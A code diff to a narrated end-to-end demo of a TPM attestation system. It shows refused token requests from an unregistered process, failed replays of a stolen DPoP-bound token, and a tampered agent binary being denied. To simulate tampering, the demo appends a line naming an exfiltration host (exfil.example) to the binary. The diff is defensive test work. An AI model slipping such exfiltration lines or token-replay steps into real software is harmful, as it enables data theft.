+  if (shadow.exit_code != 1 || shadow.stderr_text.find("unknown_agent") == std::string::npos) {
+    Fail("an unregistered process asking for a token: expected exit 1 with unknown_agent, got " + shadow.Describe());
+  }
+  Ok("agentroot-token run directly (no manifest names it) -> refused, exit 1: " + FirstLine(shadow.stderr_text));
+  const fs::path token_cli = fs::canonical(o.token_cli);
+  Json shadow_record;
+  for (const std::string& line : Lines(ReadFile(o.hostd_state_dir / "shadow_agents.jsonl"))) {
+    Json j = Json::parse(line, nullptr, false);
+    if (j.is_object() && j.value("exe", "") == token_cli.string()) shadow_record = j;
+  }
+  if (!shadow_record.is_object()) Fail("hostd's shadow_agents.jsonl has no record of " + token_cli.string());
+  Ok("hostd recorded it as a shadow agent (shadow_agents.jsonl): pid " +
+     std::to_string(shadow_record.value("pid", 0)) + ", uid " + std::to_string(shadow_record.value("uid", 0)) +
+     ", exe " + shadow_record.value("exe", "") + ", sha256 " + Short(shadow_record.value("exe_sha256", "")));
+  // THE VERIFIER'S VIEW OF SHADOW AGENTS goes here, once hostd reports them
+  // (HostdOptions::shadow_agent_hook) and the verifier has a route for them:
+  // GET it as the auditor and check this record is in it. Until then the
+  // demo shows only hostd's record and says so.
+  Say("the verifier's shadow-agent inventory is not shown: hostd does not report shadow agents to the");
+  Say("verifier yet (reported: " + std::string(shadow_record.value("reported", false) ? "true" : "false") +
+      " in hostd's record)");
 
-  // ---------------------------------------------------------------- i
-  Step("The audit log, exported by an auditor over mutual TLS");
-  auto denied = owner->Get("/v1/audit");
-  if (denied.status != 403) Fail("the owner read the audit log: " + Describe(denied));
-  Ok(o.owner + " (owner) asks for the log -> HTTP 403 " + Parse(denied).value("type", ""));
+  // ---------------------------------------------------------------- 5
+  Step("The attacker copies the agent's token and an old DPoP proof to " + m1 + " and calls the API");
+  tpm::TpmDeviceOptions device_options;
+  device_options.tcti = fleet.machines[1].tcti;
+  auto m1_tpm = Must(tpm::TpmDevice::Open(std::move(device_options)), m1 + ": open TPM");
+  const fs::path m1_state = o.work_dir / m1;
+  fs::create_directories(m1_state);
+  auto m1_keys = Must(tpm::TpmKeyManager::Create(m1_tpm, m1_state), m1 + ": key manager");
+  auto thief_key = Must(m1_keys->Generate("thief", agentroot::hsm::KeyPolicy{}), m1 + ": key");
+  Say("they hold the token (jti " + jti + "), the proof the agent sent, and a key in " + m1 + "'s TPM (" +
+      Short(thief_key->public_jwk().Thumbprint(), 12) + "); not " + m0 + "'s key");
+  auto api = Connect("attacker", o.api_url, ca_pem);
+  auto attempt = [&](const std::string& what, const std::string& authorization, const std::string& proof,
+                     std::string_view expected_error) {
+    http::ClientRequest r;
+    r.method = "GET";
+    r.target = "/v1/accounts";
+    r.headers.emplace("Authorization", authorization);
+    if (!proof.empty()) r.headers.emplace("DPoP", proof);
+    http::Response response = api->Send(r);
+    std::string challenge(http::FindHeader(response.headers, "WWW-Authenticate").value_or(""));
+    if (response.status != 401 || challenge.find("error=\"" + std::string(expected_error) + "\"") == std::string::npos) {
+      Fail(what + ": expected HTTP 401 " + std::string(expected_error) + ", got " + Describe(response) +
+           " WWW-Authenticate: " + challenge);
+    }
+    Ok(what + " -> HTTP 401 " + std::string(expected_error));
+  };
+  attempt("the token alone, no DPoP proof", "DPoP " + stolen_token, "", att::oauth_error::kInvalidToken);
+  attempt("the token as a Bearer token", "Bearer " + stolen_token, "", att::oauth_error::kInvalidToken);
+  std::string thief_proof = Must(att::CreateDpopProof(*thief_key, "GET", accounts_url, clock.NowUnixSeconds(),
+                                                      stolen_token),
+                                 "DPoP proof by " + m1 + "'s key");
+  attempt("the token + a fresh proof signed by " + m1 + "'s TPM key (not the token's cnf.jkt)", "DPoP " + stolen_token,
+          thief_proof, att::oauth_error::kInvalidDpopProof);
+  attempt("the token + the agent's old proof, replayed", "DPoP " + stolen_token, stolen_proof,
+          att::oauth_error::kInvalidDpopProof);
+  Say("a valid token is not enough: each request needs a fresh proof from the one TPM key it is bound to");
+
+  // ---------------------------------------------------------------- 6
+  Step("The agent's binary is modified on " + m0);
+  {
+    std::ofstream out(o.agent_exe, std::ios::binary | std::ios::app);
+    out << "\n# patched: upload the CRM to https://exfil.example\n";
+    if (!out) Fail("cannot modify " + o.agent_exe.string());
+  }
+  const std::string exe_v2 = Sha256Hex(ReadFile(o.agent_exe));
+  Say(o.agent_exe.filename().string() + " now hashes to " + Short(exe_v2) + "; the approved manifest says " +
+      Short(exe_v1));
+  ProcessResult changed = run_agent({});
+  if (changed.exit_code != 1 || changed.stderr_text.find("measurement_refused") == std::string::npos) {
+    Fail("the changed agent: expected exit 1 with measurement_refused, got " + changed.Describe());
+  }
+  Say("hostd's cached token was attested for the old measurement, so the new binary needs a fresh attestation");
+  Ok("the changed agent asks for a token -> refused, exit 1: " + FirstLine(changed.stderr_text));
+
+  // ---------------------------------------------------------------- 7
+  Step("Summary: what was allowed and refused, and why (the verifier's audit log and the API's decision log)");
   http::Response exported = auditor->Get("/v1/audit");
   if (exported.status != 200) Fail("audit export: " + Describe(exported));
   att::store::AuditChainReport report = att::store::VerifyAuditChain(exported.body);
@@ -526,22 +452,63 @@ void RunDemo(const Options& o) {
     Fail("the audit chain does not verify at line " + std::to_string(report.first_bad_line) + ": " +
          report.status.ToString());
   }
-  std::map<std::string, int> decisions;
-  std::istringstream lines(exported.body);
-  for (std::string line; std::getline(lines, line);) {
-    if (line.empty()) continue;
-    Json rec = Json::parse(line, nullptr, false);
-    if (rec.is_object()) decisions[rec.value("decision", "?")]++;
+  if (exported.body.find(stolen_token) != std::string::npos) Fail("the audit log contains the whole token");
+  Ok(o.auditor + " (auditor) exports the audit log over mutual TLS: " + std::to_string(report.records_verified) +
+     " records, hash chain verified");
+  struct Row {
+    std::string source, who, what, verdict, why;
+  };
+  std::vector<Row> rows;
+  std::map<std::string, int> seen;  // "action verdict" -> count, for the checks below
+  for (const std::string& line : Lines(exported.body)) {
+    auto entry = Must(att::store::ParseAuditJsonLine(line), "audit record");
+    const auto& rec = entry.record;
+    std::string verdict = rec.decision == att::store::AuditDecision::kAllow  ? "allowed"
+                          : rec.decision == att::store::AuditDecision::kDeny ? "REFUSED"
+                                                                              : "-";
+    std::string why;
+    for (const auto& r : rec.reasons) why += (why.empty() ? "" : ", ") + r;
+    seen[rec.action + " " + verdict]++;
+    if (rec.decision == att::store::AuditDecision::kInfo) continue;  // bootstrap, revocations: no verdict
+    rows.push_back({"verifier", rec.actor, rec.action + " " + rec.subject, verdict, why});
   }
-  Ok(o.auditor + " (auditor): " + std::to_string(report.records_verified) + " records, hash chain verified (" +
-     std::to_string(decisions["allow"]) + " allow, " + std::to_string(decisions["deny"]) + " deny, " +
-     std::to_string(decisions["info"]) + " info), head #" + std::to_string(report.head.seq) + " " +
-     Short(common::HexEncode(report.head.hash)));
-  if (exported.body.find(token) != std::string::npos || exported.body.find(ear) != std::string::npos) {
-    Fail("the audit log contains a whole token");
+  int api_allowed = 0, api_refused = 0;
+  for (const std::string& line : Lines(ReadFile(o.api_log))) {
+    Json j = Json::parse(line, nullptr, false);
+    if (!j.is_object() || j.value("msg", "") != "decision") continue;
+    bool allowed = j.value("status", 0) / 100 == 2;
+    (allowed ? api_allowed : api_refused)++;
+    std::string why = j.value("detail", "");  // starts with the OAuth error
+    if (why.rfind(j.value("error", ""), 0) != 0) why = j.value("error", "") + ": " + why;
+    rows.push_back({"CRM API", j.value("sub", "(no identity)"), j.value("method", "") + " " + j.value("path", ""),
+                    (allowed ? "allowed " : "REFUSED ") + std::to_string(j.value("status", 0)), why});
   }
-  if (exported.body.find("\"" + jti + "\"") == std::string::npos) Fail("the audit log does not name the token's jti");
-  Ok("the log names the token by jti " + Short(jti, 12) + " and never contains the token or the EAR");
+  std::size_t w_who = 3, w_what = 4;
+  for (const auto& r : rows) {
+    w_who = std::max(w_who, std::min<std::size_t>(r.who.size(), 44));
+    w_what = std::max(w_what, std::min<std::size_t>(r.what.size(), 60));
+  }
+  auto row = [&](const Row& r) {
+    std::printf("   %-8s  %-*s  %-*s  %-12s %s\n", r.source.c_str(), static_cast<int>(w_who),
+                Short(r.who, 44).c_str(), static_cast<int>(w_what), Short(r.what, 60).c_str(), r.verdict.c_str(),
+                Short(r.why, 90).c_str());
+  };
+  Say("(records without a verdict, such as the bootstrap of the operators, are left out)");
+  row({"from", "who", "what", "verdict", "why"});
+  for (const auto& r : rows) row(r);
+  std::fflush(stdout);
+  // The outcomes the story rests on, as the logs record them.
+  if (seen["token.issue allowed"] < 1) Fail("the audit log has no token issued to " + o.agent);
+  if (seen["attest REFUSED"] < 1) {
+    Fail("the audit log does not record the changed binary's refused attestation");
+  }
+  if (api_allowed != 1 || api_refused != 4) {
+    Fail("the API's decision log: expected 1 allowed and 4 refused, got " + std::to_string(api_allowed) + " and " +
+         std::to_string(api_refused));
+  }
+  Ok("the verifier issued one token to " + o.agent + " and refused the changed binary's attestation; the API");
+  Say("allowed the agent's one request and refused all " + std::to_string(api_refused) + " of the attacker's");
+  Say("(the unregistered process never reached the verifier: hostd refused it locally; see step 4)");
 }
 
 }  // namespace
@@ -551,12 +518,14 @@ int main(int argc, char** argv) {
   // failures itself.
   setenv("TSS2_LOG", "all+NONE", 0);
   CLI::App app{
-      "agentroot-demo: the narrated end-to-end demo against a running agentroot-verifier.\n"
-      "Plays machine-0 (enrollment, TPM agent key, measurement, quote, DPoP), the operators (mutual TLS),\n"
-      "a resource server, and a thief on machine-1. Exits non-zero when any step does not behave as expected."};
+      "agentroot-demo: the narrator of `make demo` (scripts/demo.sh starts the processes).\n"
+      "Plays the operators (mutual TLS) and an attacker on machine-1; runs the agent and an unregistered process\n"
+      "against agentroot-hostd on machine-0. Exits non-zero when any step does not behave as expected."};
   Options o;
   app.add_option("--verifier", o.verifier_url, "Verifier base URL, e.g. https://127.0.0.1:8443")->required();
-  app.add_option("--ca", o.ca, "CA certificate of the verifier's TLS certificate (PEM)")->required()->check(CLI::ExistingFile);
+  app.add_option("--ca", o.ca, "CA certificate of the verifier's and the API's TLS certificates (PEM)")
+      ->required()
+      ->check(CLI::ExistingFile);
   app.add_option("--operator-dir", o.operator_dir, "Directory with <operator>.crt and <operator>.key client credentials")
       ->required()
       ->check(CLI::ExistingDirectory);
@@ -568,9 +537,24 @@ int main(int argc, char** argv) {
   app.add_option("--fleet", o.fleet_json, "fleet.json of a running swtpm fleet (agentroot-sim tpm start), >= 2 machines")
       ->required()
       ->check(CLI::ExistingFile);
-  app.add_option("--state-dir", o.state_dir, "Directory for the machines' key blobs and the agent binary")->required();
-  app.add_option("--agent", o.agent, "Agent name")->capture_default_str();
-  app.add_option("--host-group", o.host_group, "Host group machine-0 enrolls into")->capture_default_str();
+  app.add_option("--work-dir", o.work_dir, "Directory for the attacker's key blobs and the captured request")
+      ->required();
+  app.add_option("--hostd-socket", o.hostd_socket, "The socket of agentroot-hostd on machine-0")->required();
+  app.add_option("--hostd-state-dir", o.hostd_state_dir, "hostd's state directory (for shadow_agents.jsonl)")
+      ->required();
+  app.add_option("--hostd-pid", o.hostd_pid, "hostd's pid (narration only)");
+  app.add_option("--agent-exe", o.agent_exe, "The agent executable hostd's manifest names (a copy of "
+                                             "agentroot-example-agent; step 6 modifies it)")
+      ->required()
+      ->check(CLI::ExistingFile);
+  app.add_option("--token-cli", o.token_cli, "agentroot-token, run as the unregistered process")
+      ->required()
+      ->check(CLI::ExistingFile);
+  app.add_option("--api", o.api_url, "The CRM API's URL (agentroot-resource-demo), https://host:port")->required();
+  app.add_option("--audience", o.audience, "The CRM API's audience")->capture_default_str();
+  app.add_option("--api-log", o.api_log, "The CRM API's stderr (JSON lines, one per decision)")->required();
+  app.add_option("--agent", o.agent, "Agent name (as hostd's manifest names it)")->capture_default_str();
+  app.add_option("--host-group", o.host_group, "Host group hostd enrolls into")->capture_default_str();
   app.add_option("--first-step", o.first_step, "Number of the first narrated step")->capture_default_str();
   try {
     app.parse(argc, argv);
